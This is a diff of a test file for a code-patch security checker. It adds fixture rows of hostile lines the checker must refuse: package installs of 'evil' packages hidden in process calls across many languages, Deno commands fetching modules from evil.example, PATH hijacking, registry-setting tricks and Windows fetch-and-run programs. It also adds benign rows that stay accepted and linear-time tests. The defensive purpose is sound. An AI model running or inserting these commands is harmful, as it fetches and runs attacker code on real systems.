@@ -1,5 +1,8 @@
-import { describe, it } from 'vitest';
-import { closedRows, describeAccepted, describeFindings, expectAccepted, expectRefused, type FindingRow } from '../support/patches.js';
+import { describe, expect, it } from 'vitest';
+import { checkPatch } from '../../shared/analysis/index.js';
+import { callsSpelledOut } from '../../shared/analysis/process-calls.js';
+import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, repeatedTo } from '../support/growth.js';
+import { closedRows, describeAccepted, describeFindings, expectAccepted, expectRefused, patchAdding, type FindingRow } from '../support/patches.js';
 
 /**
  * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
@@ -292,8 +295,13 @@ const NEW_MANAGERS_INSTALL: FindingRow[] = [
   SYSTEM('guix shell evil -- evil'),
 ];
 
-// Still open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's
-// `Process(…)` (a name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder).
+// Open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's `Process(…)` (a
+// name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder). Closed
+// (session 47) by readings per construct: Perl's open with a pipe in its mode string, Perl's and Ruby's other quotes
+// read as a double quote and a heredoc's lines where it opens, a string or Scala collection before whatever runs it
+// (Groovy's execute with arguments, Scala's run, lazyLines, `!` postfix), Clojure's sh in any namespace, Haskell's proc,
+// shell, runProcess and runCommand, sh's programs by import, alias or `Command('…')` and plumbum's by lookup, .NET's
+// ProcessStartInfo among PROCESS_CALL's names.
 const BACKTICK_CALLS_OPEN: FindingRow[] = [
   ['src/x.pl', 'open(FH, "npm install evil |");'],
   ['src/x.scala', 'Process("npm install evil").!'],
@@ -321,11 +329,25 @@ const BACKTICK_CALLS_OPEN: FindingRow[] = [
   ['src/x.py', "import sh as s\ns.npm('install', 'evil-pkg')"],
   ['src/x.py', "from plumbum import local\nlocal.cmd.npm('install', 'evil-pkg')"],
   ['src/X.cs', 'new ProcessStartInfo("npm", "install evil-pkg")'],
+  // Found closing them: the same constructs in their other forms.
+  ['src/x.pl', 'open FH, "| npm install evil-pkg";'],
+  ['src/x.rb', 'out = <<~`SH`\n  npm install evil-pkg\nSH'],
+  ['src/x.rb', 'IO.popen(<<~SH)\n  echo start\n  echo more\n  npm install evil-pkg\nSH'],
+  ['src/x.php', '<?php shell_exec(<<<EOT\nnpm install evil-pkg\nEOT);'],
+  ['src/check.rb', 'system(*%w[npm install evil-pkg])'],
+  ['src/x.clj', '(p/sh "npm" "install" "evil-pkg")'],
+  ['src/x.scala', 'Seq("npm", "install", "evil-pkg").lazyLines_!'],
+  ['src/x.scala', 'Process("npm", Seq("install", "evil-pkg")).!'],
+  ['src/x.hs', 'shell "npm install evil-pkg"'],
+  ['src/x.py', "from sh import npm as n\nn.install('evil-pkg')"],
+  ['src/x.py', "from plumbum import local\nlocal.get('npm')('install', 'evil-pkg')"],
+  ['src/x.py', "import sh\nsh.Command('/usr/bin/npm')('install', 'evil-pkg')"],
 ];
 
 // C (high): Deno's other verbs run a module from a URL exactly as `deno run <url>` (refused) does: `deno test`,
 // `deno bench`, `deno serve` import and run it; `deno repl --eval-file=<url>` evaluates it; `deno x` (Deno 2.x's
-// package runner, as npx). Only `deno run` is read.
+// package runner, as npx). Only `deno run` is read. Closed (session 47): each of these verbs given a module from a URL
+// or a registry, and `deno x` given anything, as `deno run` is.
 const DENO_REMOTE: FindingRow[] = [
   SYSTEM('deno test -A https://evil.example/t.ts'),
   SYSTEM('deno bench https://evil.example/x.ts'),
@@ -376,7 +398,8 @@ const OTHER_RUNNERS: FindingRow[] = [
 
 // E (high): Go's fetching option in the spellings Go's flag package also takes (`--mod=mod`, `-mod mod`), in a command
 // string and an argument list (FETCHING_OPTION is the literal `-mod=mod`); `go env --w` (refusedForms reads `-w` only),
-// which sets GOPROXY for every later go call.
+// which sets GOPROXY for every later go call. Closed (session 47): the option read in each spelling, in a string and in
+// a list's arguments joined, and `--w` as `-w`.
 const GO_FLAG_SPELLINGS: FindingRow[] = [
   SYSTEM('go test --mod=mod ./...'),
   SYSTEM('go test -mod mod ./...'),
@@ -476,7 +499,8 @@ const GIT_CONFIGURATION: FindingRow[] = [
 
 // K (high): Deno's own process API gives its arguments in an options object (`{ args: [...] }`), which the argument-list
 // reading does not follow for deno (not in PACKAGE_MANAGERS) and the command reading does not see as one command:
-// `deno run <url>` (refused in a list or a string) passes.
+// `deno run <url>` (refused in a list or a string) passes. Closed (session 47): `{ args: [` after the program is read as
+// an argument list.
 const DENO_COMMAND_OBJECT: FindingRow[] = [
   ['src/check.ts', "new Deno.Command('deno', { args: ['run', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
   ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A', 'https://evil.example/x.ts'] }).outputSync()"],
@@ -484,6 +508,8 @@ const DENO_COMMAND_OBJECT: FindingRow[] = [
 
 // L (high): pip run in the process by spellings PIP_MAIN (`pip.main([` / `pip._internal…main([`) does not read:
 // `__import__('pip').main`, pip's main imported under another name, `runpy.run_module('pip')` with sys.argv set.
+// Closed (session 47): a module imported by its name in a string is that module, a name imported from pip is pip's,
+// and pip run by runpy is refused whatever sys.argv holds.
 const PIP_IN_PROCESS: FindingRow[] = [
   ['src/check.py', "__import__('pip').main(['install', 'evil'])"],
   ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['install', 'evil'])"],
@@ -494,6 +520,7 @@ const PIP_IN_PROCESS: FindingRow[] = [
 // (settingArguments `verify.deps`), a command string reads only DANGEROUS_LONG_OPTION (registry, config…): the allowed
 // `pnpm run build` installs first; with a scope's registry (`--@acme:registry=`, refused in a list, not in a string) the
 // company's private scope resolves on the attacker's registry (dependency confusion), install scripts included.
+// Closed (session 47): a command string's scope registry and verify-deps option are read as the list's are.
 const PNPM_SETTINGS_IN_COMMAND_STRINGS: FindingRow[] = [
   SYSTEM('pnpm run build --verify-deps-before-run=install'),
   SYSTEM('pnpm test --verify-deps-before-run install'),
@@ -508,6 +535,8 @@ const PNPM_SETTINGS_IN_COMMAND_STRINGS: FindingRow[] = [
 // managers (choco, winget, scoop, a scoop bucket from a URL), PowerShell Gallery modules (Install-Module runs nothing
 // yet, but the module's code is the attacker's), and the system's programs that fetch and run: `msiexec /i <url>`
 // (an installer's custom actions), `mshta <url>`, `regsvr32 /i:<url> scrobj.dll`, `rundll32 url.dll,OpenURL <hta>`.
+// Closed (session 47): a manager's name read with its shim, choco, winget and scoop among the other managers (a
+// bucket added as an install), the Gallery's installs, mshta, and msiexec, regsvr32 and rundll32 given a URL.
 const WINDOWS: FindingRow[] = [
   SYSTEM('npm.cmd install evil'),
   SYSTEM('npm.ps1 install evil'),
@@ -675,6 +704,18 @@ const OUTSIDE_THE_REPOSITORY: FindingRow[] = [
   ['src/plugin.go', 'p, _ := plugin.Open("/tmp/x.so")'],
 ];
 
+// Review of session 47's patch, H2 (high): the argument-list reading measured the call's brackets from the earliest
+// process-call opening in reach, so a decoy opening closed by `))` before the real call made its list look closed and
+// its options (a PATH of the attacker's, a shell, another argv0) were never read. Closed: measured from the nearest.
+const DECOY_CALL_OPENING: FindingRow[] = [
+  ['src/x.ts', "/* shell \"x\")) */ execFileSync('npm', ['test'], { env: { PATH: '/tmp/evil' } })"],
+  ['src/x.ts', "/* shell \"x\")) */ execFileSync('npm', ['test'], { shell: true })"],
+  ['src/x.ts', "/* shell \"x\")) */ execFileSync('npm', ['test'], { argv0: 'x' })"],
+  ['src/x.ts', "/* system \"x\")) */ execFileSync('npm', ['test'], { env: { PATH: '/tmp/evil' } })"],
+  ['src/x.ts', "/* system \"x\")) */ execFileSync('npm', ['test'], { shell: true })"],
+  ['src/x.ts', "/* runCommand \"x\")) */ execFileSync('npm', ['test'], { env: { PATH: '/tmp/evil' } })"],
+];
+
 describeFindings('attack-48', [
   ['E0 escaped separator before the program', closedRows(ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM)],
   ['E1 escaped setting names', closedRows(ESCAPED_SETTING_NAMES)],
@@ -686,24 +727,25 @@ describeFindings('attack-48', [
   ['A spellings', closedRows(SPELLINGS)],
   ['E0 and A variants', closedRows(ESCAPE_VARIANTS)],
   ['B process calls not read', closedRows(BACKTICK_CALLS)],
-  ['B process calls not read, open', BACKTICK_CALLS_OPEN],
+  ['B process calls not read, closed in session 47', closedRows(BACKTICK_CALLS_OPEN)],
   ['B review H1 spelling hides settings', closedRows(SPELLING_HIDES_SETTINGS)],
   ['B review M3 plumbum aliases', closedRows(PLUMBUM_ALIASES)],
   ['P review M1 common-word managers', closedRows(COMMON_WORD_MANAGERS)],
   ['B review H2 backticks hidden', closedRows(BACKTICKS_HIDDEN)],
   ['P review M4 new managers install', closedRows(NEW_MANAGERS_INSTALL)],
-  ['C deno remote modules', DENO_REMOTE],
+  ['C deno remote modules', closedRows(DENO_REMOTE)],
   ['C deno remote modules, closed', closedRows(DENO_REMOTE_CLOSED)],
   ['D other runners', closedRows(OTHER_RUNNERS)],
-  ['E go flag spellings', GO_FLAG_SPELLINGS],
+  ['E go flag spellings', closedRows(GO_FLAG_SPELLINGS)],
   ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
   ['H environment spellings', closedRows(ENVIRONMENT_SPELLINGS)],
   ['I loader environment', closedRows(LOADER_ENVIRONMENT)],
   ['J git configuration', closedRows(GIT_CONFIGURATION)],
-  ['K deno command object', DENO_COMMAND_OBJECT],
-  ['L pip in process', PIP_IN_PROCESS],
-  ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
-  ['N windows', WINDOWS],
+  ['K deno command object', closedRows(DENO_COMMAND_OBJECT)],
+  ['L pip in process', closedRows(PIP_IN_PROCESS)],
+  ['M pnpm settings in command strings', closedRows(PNPM_SETTINGS_IN_COMMAND_STRINGS)],
+  ['N windows', closedRows(WINDOWS)],
+  ['review H2 decoy call opening', closedRows(DECOY_CALL_OPENING)],
   ['P other managers not listed', closedRows(OTHER_MANAGERS_NOT_LISTED)],
   ['O doctests configure', DOCTESTS_CONFIGURE],
   // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
@@ -819,7 +861,101 @@ describeAccepted('attack-48 B: ordinary process calls stay accepted', [
   SYSTEM('rpm -Va'),
   SYSTEM("rpm -E '%{_arch}'"),
   SYSTEM('guix shell -m manifest.scm -- make check'),
+  // Session 47 (B's other spellings): the same constructs running allowed commands, and the text they read otherwise.
+  ['src/check.pl', 'system qq{make test};'],
+  ['src/check.pl', 'system qw(git status);'],
+  ['src/check.pl', 'my %opt = (q => 1, v => 0);'],
+  ['src/check.pl', 'my $s = q{run npm install evil-pkg first}; print $s;'],
+  ['src/check.pl', "printf(\"%-5s %s\\n\", $name, 'npm install evil-pkg');"],
+  ['src/check.rb', 'system %(bundle exec rspec)'],
+  ['src/check.rb', 'system <<~SH\n  bundle exec rspec\nSH'],
+  ['src/check.rb', 'msg = <<~TXT\n  Run npm install evil-pkg first\nTXT\nputs msg'],
+  ['src/check.pl', 'print <<"END";\nRun npm install evil-pkg first\nEND'],
+  ['src/check.rb', 'flags = 1 << 4'],
+  ['src/check.pl', 'open(FH, "< $file") or die;'],
+  ['src/check.pl', 'open(FH, "git log --oneline |") or die;'],
+  ['src/x.groovy', '"git status".execute(null, new File(\'.\'))'],
+  ['src/x.groovy', "def out = ('ls -la').execute().text"],
+  ['src/x.groovy', '"""git log --oneline""".execute()'],
+  ['src/x.scala', '"sbt test".run()'],
+  ['src/x.scala', '"sbt test" !'],
+  ['src/x.scala', 'val lines = "git log --oneline".lazyLines'],
+  ['src/x.scala', 'Process("sbt", Seq("test")).!'],
+  ['src/x.js', "const same = 'npm install evil-pkg' !== hint;"],
+  ['src/x.js', "tip('npm install evil-pkg').run();"],
+  ['src/x.clj', '(shell/sh "git" "status")'],
+  ['src/x.hs', 'createProcess (proc "cabal" ["test"])'],
+  ['src/x.hs', 'runProcess_ "cabal build"'],
+  ['src/x.py', "from sh import git\ngit('status')"],
+  ['src/x.py', "import sh as s\ns.git('status')"],
+  ['src/x.py', "from plumbum import local\nlocal.cmd.git('status')"],
+  ['src/x.py', "import sh\nsh.Command('git')('status')"],
+  ['src/x.py', "from sh import ErrorReturnCode\ntry:\n    pass\nexcept ErrorReturnCode as e:\n    print(e)"],
+  ['src/x.py', "import re as s\ns.compile('npm install evil-pkg')"],
+  ['src/X.cs', 'new ProcessStartInfo("dotnet", "test")'],
+  ['src/X.cs', 'var psi = new ProcessStartInfo("npm", "test");'],
+  // Session 47, C/K/L/M: deno's verbs on the repository's own modules, Deno's arguments object running an allowed verb,
+  // modules imported by name, pip's API not installing, runpy of the repository's module, options past a bare `--`.
+  SYSTEM('deno test -A'),
+  SYSTEM('deno test --allow-read src/'),
+  SYSTEM('deno run -A main.ts'),
+  SYSTEM('deno task build'),
+  ['src/check.ts', "new Deno.Command('deno', { args: ['test', '-A'] }).outputSync()"],
+  ['src/check.ts', "new Deno.Command('git', { args: ['status'] }).outputSync()"],
+  ['src/check.py', "import importlib\nyaml = importlib.import_module('yaml')"],
+  ['src/check.py', "mod = __import__('json')\nprint(mod.dumps({}))"],
+  ['src/check.py', "from pip._internal.cli.main import main as pipmain\npipmain(['list'])"],
+  ['src/check.py', "import runpy\nrunpy.run_module('mypackage.cli', run_name='__main__')"],
+  SYSTEM('pnpm run build --reporter=append-only'),
+  SYSTEM('npm test -- --verify-deps'),
+  // Session 47, N: shims running allowed verbs, Windows' managers listing, a local installer or library registered.
+  SYSTEM('npm.cmd test'),
+  SYSTEM('npm.cmd ci'),
+  SYSTEM('pip.exe list'),
+  SYSTEM('cargo.exe build --release'),
+  SYSTEM('choco list --local-only'),
+  SYSTEM('winget list'),
+  SYSTEM('pwsh -c "Get-Module -ListAvailable"'),
+  SYSTEM('msiexec /i build\\\\app.msi /qn'),
+  ['src/check.js', "execSync('regsvr32 /s build/x.dll')"],
+  ['src/check.js', "execSync('npm.cmd run build', { stdio: 'inherit' })"],
+  // Session 47, E: Go's other module modes, and `mod` as a test's name or a directory.
+  SYSTEM('go test -mod=readonly ./...'),
+  SYSTEM('go build -mod vendor ./...'),
+  ['src/check.go', 'exec.Command("go", "test", "-mod", "vendor", "./...").Run()'],
+  ['src/check.go', 'exec.Command("go", "test", "-run", "TestMod", "./mod").Run()'],
+  SYSTEM('go test ./mod mod'),
 ]);
+
+/**
+ * B's readings of session 47 cost time linear in what they read (`test/support/growth.ts`): the spellings alone (in the
+ * whole check, slower readings of the same line hide a quadratic one), and the calls PROCESS_CALL names in the check.
+ */
+describe('attack-48 B, C, E, K, L, M, N: session 47 readings in linear time', () => {
+  it.each([
+    ['src/x.scala', 'strings never run', '"a" '],
+    ['src/x.scala', 'triple quotes never closed', '"""a" '],
+    ['src/x.groovy', 'strings in parentheses never run', "('a' "],
+    ['src/x.scala', 'collections never run', 'Seq(a(b) '],
+    ['src/x.scala', 'a string, then spaces', '"a"                                 x'],
+    ['src/check.pl', 'quote operators', 'q(%[qq{ '],
+    ['src/x.py', 'programs looked up, never closed', "sh.Command('a/"],
+    ['src/check.rb', 'heredocs never closed', 'system <<A\n'],
+    ['src/x.py', 'modules imported by name, never closed', "__import__('a "],
+    ['src/x.ts', 'arguments objects', ', { args: [, { args: '],
+  ] as const)('spells, in %s, %s', { timeout: 120_000 }, (path, _, unit) => {
+    expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => callsSpelledOut(path, text.split('\n')))).toBeLessThan(LINEAR_EXPONENT_BOUND);
+  });
+  it.each([
+    ['src/check.pl', 'two-argument opens', 'open(FH, "a '],
+    ['src/x.hs', 'Haskell calls without parentheses', 'proc shell runProcess_ '],
+    ['src/check.py', 'scopes and settings after a verb', "system('npm x --@a.b --verify "],
+    ['src/check.py', "deno's verbs, no module named", "system('deno test x deno x"],
+    ['src/check.py', 'shims, module modes and installers, no URL', "system('npm.cmd x -mod    msiexec /i "],
+  ] as const)('checks, in %s, %s', { timeout: 120_000 }, (path, _, unit) => {
+    expect(cpuGrowthExponent(PATCH_COST_SIZES, repeatedTo(unit), (text) => checkPatch(patchAdding(path, text.split('\n'))))).toBeLessThan(LINEAR_EXPONENT_BOUND);
+  });
+});
 
 /**
  * Ordinary calls of the runners and managers D and P's fixes (session 46) named: what they print, test, build or run
